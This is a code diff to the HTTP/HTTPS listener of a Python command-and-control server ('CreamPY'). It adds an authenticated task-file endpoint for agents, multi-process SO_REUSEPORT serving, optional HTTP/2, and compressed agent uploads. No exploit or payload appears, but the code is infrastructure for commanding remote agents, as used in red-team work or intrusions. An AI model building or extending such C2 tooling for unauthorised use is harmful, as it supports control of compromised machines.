@@ -7,22 +7,45 @@ Utilizes FastAPI and Uvicorn to provide a REST API and WebSocket communication f
 #!/usr/bin/env python3
 
 import os
+import errno
+import socket
+import asyncio
+import multiprocessing
 import uvicorn
 import logging
 
 from fastapi import FastAPI, WebSocket, WebSocketDisconnect, HTTPException
+from fastapi.responses import ORJSONResponse, FileResponse
 from fastapi.middleware.cors import CORSMiddleware
 from typing import Dict
 from pydantic import BaseModel
-from C2.Backend.utils.config import load_config
-from C2.Backend.utils.auxiliary import is_port_in_use
+from C2.Backend.utils.config import load_config, TASKS_DIR
 from C2.Backend.utils.logging_config import loggers
+from C2.Backend.utils.compression import DecompressRequestMiddleware
+from C2.Backend.API.agent_api import router as agent_router
+from C2.Backend.API.agent_manager_pg import authenticate_agent
 
 # Load configuration settings
 config = load_config()
 SSL_CERT = config["SERVER_CRT"]
 SSL_KEY = config["SERVER_KEY"]
 
+# Uvicorn backends, pinned so a missing package fails at startup instead of silently
+# falling back to the pure-Python h11 parser
+UVICORN_BACKENDS = dict(loop="uvloop", http="httptools", ws="websockets", lifespan="on")
+
+# Number of processes serving each C2 listener. With more than one, every worker binds
+# its own SO_REUSEPORT socket and the kernel spreads incoming connections across them.
+HTTP_WORKERS = int(os.getenv("C2_HTTP_WORKERS", "1"))
+
+# Serve the HTTPS listener through Hypercorn with HTTP/2 (ALPN h2, falling back to
+# http/1.1) so agents can multiplex requests over one connection. Requires `hypercorn`.
+HTTP2 = os.getenv("C2_HTTP2", "false").lower() in ("1", "true", "yes")
+
+# Per-request access logging on the C2 listeners. Every agent poll is a request, so it
+# is off by default; set C2_ACCESS_LOG=true to record them.
+ACCESS_LOG = os.getenv("C2_ACCESS_LOG", "false").lower() in ("1", "true", "yes")
+
 # Logger instance for HTTP server events
 http_logger = loggers["http"]
 
@@ -51,7 +74,8 @@ logging.getLogger("uvicorn.error").setLevel(http_logger.level)
 c2_app = FastAPI(
     title="CreamPY Command & Control server",
     version="2.0.0",
-    description="Python-based C2 application."
+    description="Python-based C2 application.",
+    default_response_class=ORJSONResponse
 )
 
 # Enable Cross-Origin Resource Sharing (CORS)
@@ -63,7 +87,14 @@ c2_app.add_middleware(
     allow_headers=["*"]        # Allow all headers
 )
 
-# Dictionary to store active WebSocket connections with agents
+# Accept zstd/gzip-compressed agent uploads
+c2_app.add_middleware(DecompressRequestMiddleware)
+
+# Agent command long-poll, agent WebSocket and batched output upload
+c2_app.include_router(agent_router)
+
+# Dictionary to store active WebSocket connections with agents.
+# Each worker process has its own; an agent only needs to land on any one worker.
 connected_agents: Dict[str, WebSocket] = {}
 
 # Data validation and serialization models
@@ -88,47 +119,163 @@ async def root():
     """
     return {"message": "C2 Server Running"}
 
+@c2_app.get("/tasks/{filename}")
+async def get_task_file(filename: str, agent_id: str, auth_token: str):
+    """
+    Serves a task file from the same directory the SMB server shares as "TASKS".
+
+    The file is streamed to the client in chunks rather than loaded into memory,
+    so agents that can reach the HTTP listener do not need to go through SMB.
+    Only registered agents may download tasks.
+
+    Args:
+        filename (str): Name of the file inside TASKS_DIR.
+        agent_id (str): The agent's unique identifier.
+        auth_token (str): The agent's authentication token.
+
+    Returns:
+        FileResponse: The task file.
+
+    Raises:
+        HTTPException: 401 if authentication fails, 404 if the name is not a plain
+        file inside TASKS_DIR.
+    """
+    if not await authenticate_agent(agent_id, auth_token):
+        raise HTTPException(status_code=401, detail="Authentication failed")
+    path = os.path.join(TASKS_DIR, filename)
+    if filename != os.path.basename(filename) or filename.startswith(".") or not os.path.isfile(path):
+        raise HTTPException(status_code=404, detail="Task not found")
+    return FileResponse(path)
+
+def bind_listener(port: int, reuseport: bool = False) -> socket.socket:
+    """
+    Creates a listening TCP socket with SO_REUSEADDR set, so a restarted listener
+    is not refused its port while old connections sit in TIME_WAIT.
+
+    With `reuseport`, SO_REUSEPORT is set as well, so several worker processes can
+    bind the same port and share incoming connections.
+
+    Args:
+        port (int): The port to listen on.
+        reuseport (bool): Whether to set SO_REUSEPORT.
+
+    Returns:
+        socket.socket: The bound, listening socket.
+
+    Raises:
+        OSError: If the port cannot be bound (EADDRINUSE if it is already taken).
+    """
+    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    try:
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        if reuseport:
+            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
+        sock.bind(("0.0.0.0", port))
+        sock.listen(2048)
+    except OSError:
+        sock.close()
+        raise
+    return sock
+
+def serve_worker(config_kwargs: dict):
+    """
+    Entry point of a C2 worker process: serves `c2_app` on its own SO_REUSEPORT socket.
+
+    Args:
+        config_kwargs (dict): Keyword arguments for `uvicorn.Config`.
+    """
+    server_config = uvicorn.Config(c2_app, **config_kwargs)
+    uvicorn.Server(server_config).run(sockets=[bind_listener(server_config.port, reuseport=True)])
+
+async def serve_c2_app(config_kwargs: dict):
+    """
+    Serves `c2_app` with the given Uvicorn settings, in-process or across HTTP_WORKERS processes.
+
+    In-process, the listening socket is bound here rather than by Uvicorn, so a
+    busy port surfaces as an OSError instead of Uvicorn exiting the process.
+
+    Args:
+        config_kwargs (dict): Keyword arguments for `uvicorn.Config`.
+
+    Raises:
+        OSError: If the port cannot be bound.
+    """
+    if HTTP_WORKERS <= 1:
+        sock = bind_listener(config_kwargs["port"])
+        server = uvicorn.Server(uvicorn.Config(c2_app, **config_kwargs))
+        await server.serve(sockets=[sock])
+        return
+
+    ctx = multiprocessing.get_context("spawn")
+    workers = [ctx.Process(target=serve_worker, args=(config_kwargs,), daemon=True) for _ in range(HTTP_WORKERS)]
+    for worker in workers:
+        worker.start()
+    try:
+        await asyncio.gather(*(asyncio.to_thread(worker.join) for worker in workers))
+    finally:
+        # Stopping the listener (task cancellation) takes the worker processes down with it
+        for worker in workers:
+            worker.terminate()
+
+async def serve_c2_app_h2(port: int):
+    """
+    Serves `c2_app` over TLS with HTTP/2 and HTTP/1.1 through Hypercorn on the running loop.
+
+    Hypercorn runs in-process on the current (uvloop) event loop; HTTP_WORKERS
+    applies to the Uvicorn transport only.
+
+    Args:
+        port (int): The port to listen on.
+    """
+    from hypercorn.asyncio import serve
+    from hypercorn.config import Config as HypercornConfig
+
+    server_config = HypercornConfig()
+    server_config.bind = [f"0.0.0.0:{port}"]
+    server_config.certfile = SSL_CERT
+    server_config.keyfile = SSL_KEY
+    server_config.alpn_protocols = ["h2", "http/1.1"]
+    server_config.accesslog = http_logger if ACCESS_LOG else None
+    server_config.errorlog = http_logger
+    await serve(c2_app, server_config)
+
 async def run_http_server():
     """
     Starts the C2 HTTP server on port 80 using Uvicorn.
 
     Features:
-    - Ensures port 80 is available before starting.
+    - Reports an error if port 80 is already in use.
     - Uses FastAPI (`c2_app`) as the application.
     - Logs status updates and errors.
     """
-    if is_port_in_use(80):
-        http_logger.error("Port 80 is already in use. HTTP server will not start.")
-        return
-
     http_logger.info("Starting HTTP C2 server on port 80...")
     try:
-        server_config = uvicorn.Config(
-            c2_app,
+        await serve_c2_app(dict(
             host="0.0.0.0",
             port=80,
+            **UVICORN_BACKENDS,
             log_level=http_logger.level,
-            access_log=True
-        )
-        server = uvicorn.Server(server_config)
-        await server.serve()
+            access_log=ACCESS_LOG
+        ))
+    except OSError as e:
+        if e.errno == errno.EADDRINUSE:
+            http_logger.error("Port 80 is already in use. HTTP server will not start.")
+        else:
+            http_logger.error(f"HTTP Server failed to start: {e}")
     except Exception as e:
         http_logger.error(f"HTTP Server failed to start: {e}")
 
 async def run_https_server():
     """
-    Starts the C2 HTTPS server on port 443 using Uvicorn.
+    Starts the C2 HTTPS server on port 443 using Uvicorn, or Hypercorn with HTTP/2 when C2_HTTP2 is set.
 
     Features:
     - Ensures SSL certificates exist before starting.
-    - Ensures port 443 is available before starting.
+    - Falls back to Uvicorn if HTTP/2 is requested but Hypercorn is not installed.
+    - Reports an error if port 443 is already in use.
     - Uses FastAPI (`c2_app`) as the application.
     - Logs status updates and errors.
     """
-    if is_port_in_use(443):
-        http_logger.error("Port 443 is already in use. HTTPS server will not start.")
-        return
-
     # Ensure SSL certificate files exist
     if not os.path.exists(SSL_KEY) or not os.path.exists(SSL_CERT):
         http_logger.error(f"Missing SSL certificate files! Ensure {SSL_KEY} and {SSL_CERT} exist.")
@@ -136,16 +283,25 @@ async def run_https_server():
 
     http_logger.info("Starting HTTPS C2 server on port 443...")
     try:
-        http_config = uvicorn.Config(
-            c2_app,
+        if HTTP2:
+            try:
+                await serve_c2_app_h2(443)
+                return
+            except ImportError:
+                http_logger.error("C2_HTTP2 is set but hypercorn is not installed; serving HTTP/1.1 with Uvicorn.")
+        await serve_c2_app(dict(
             host="0.0.0.0",
             port=443,
+            **UVICORN_BACKENDS,
             log_level=http_logger.level,
-            access_log=True,
+            access_log=ACCESS_LOG,
             ssl_keyfile=SSL_KEY,
             ssl_certfile=SSL_CERT
-        )
-        server = uvicorn.Server(http_config)
-        await server.serve()
+        ))
+    except OSError as e:
+        if e.errno == errno.EADDRINUSE:
+            http_logger.error("Port 443 is already in use. HTTPS server will not start.")
+        else:
+            http_logger.error(f"HTTPS Server failed to start: {e}")
     except Exception as e:
         http_logger.error(f"HTTPS Server failed to start: {e}")